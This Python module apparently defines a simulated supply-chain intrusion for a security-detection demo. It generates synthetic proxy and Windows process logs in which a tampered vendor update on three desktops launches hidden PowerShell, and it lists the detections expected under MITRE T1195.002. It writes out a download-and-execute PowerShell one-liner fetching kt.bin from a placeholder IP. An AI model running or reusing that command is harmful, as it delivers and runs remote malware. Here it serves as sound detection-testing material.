"""Story 12: a vendor's update server gives a changed file to three machines; the updater starts what is in it."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

from core.clock import MINUTE, SECOND, Micros
from kydai.demo.emission import Given
from kydai.demo.lines_unix import squid
from kydai.demo.lines_windows import process, windows
from kydai.demo.story import Story
from kydai.demo.truth import Expected, Truth
from kydai.demo.world import World

NAME = "supply"
VENDOR, DROP = "198.51.100.67", "203.0.113.68"
DESKS = ("pc-0005", "pc-0023", "pc-0051")
UPDATER = r"C:\Program Files (x86)\KeToanXa\CapNhat.exe"
_SHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def play(world: World, random: Random, start: Micros) -> Iterator[Given]:
    """Each machine fetches the file through the proxy, runs it, and it calls PowerShell."""
    proxy = world.host("proxy01")
    for turn, desk in enumerate(DESKS):
        pc, at = world.host(desk), start + turn * 7 * MINUTE + random.randrange(SECOND)
        url = "http://capnhat.phanmemxa.example/ketoan/7.4.2/CapNhat.dat"
        yield squid(
            proxy, at, pc.address, "GET", url, 200, 5_120_441, 4_100, result="TCP_MISS", peer=VENDOR, story=NAME
        )
        fetch = f"iwr http://{DROP}/kt.bin -OutFile $env:TEMP\\kt.exe; & $env:TEMP\\kt.exe"
        line = f'powershell.exe -nop -w hidden -c "{fetch}"'
        event = process("SYSTEM", "NT AUTHORITY", "0x3e7", _SHELL, line, UPDATER, 5_100 + turn, 5_000 + turn)
        yield windows(pc, at + 9 * SECOND, event, 81_001 + turn, NAME)


STORY = Story(
    name=NAME,
    title={"vi": "Bản cập nhật của nhà cung cấp bị thay", "en": "A vendor's update was changed"},
    hours=("11:10", "14:20"),
    lasts=25 * MINUTE,
    play=play,
    truth=Truth(
        hosts=("proxy01", *DESKS),
        outside=(VENDOR, DROP),
        accounts=(),
        expects=(
            Expected(
                {"vi": "chương trình cập nhật mở trình lệnh", "en": "updater starts a shell"}, DESKS[0], "T1195.002"
            ),
            Expected(
                {"vi": "cùng chương trình cập nhật, nhiều máy", "en": "the same updater on several hosts"},
                DESKS[2],
                "T1195.002",
            ),
        ),
        summary={
            "vi": "Máy chủ cập nhật của phần mềm kế toán xã đưa tệp bị thay cho ba máy; tệp đó mở PowerShell.",
            "en": "The update server of an accounting program gives a changed file to three machines, "
            "and the updater starts PowerShell.",
        },
    ),
)
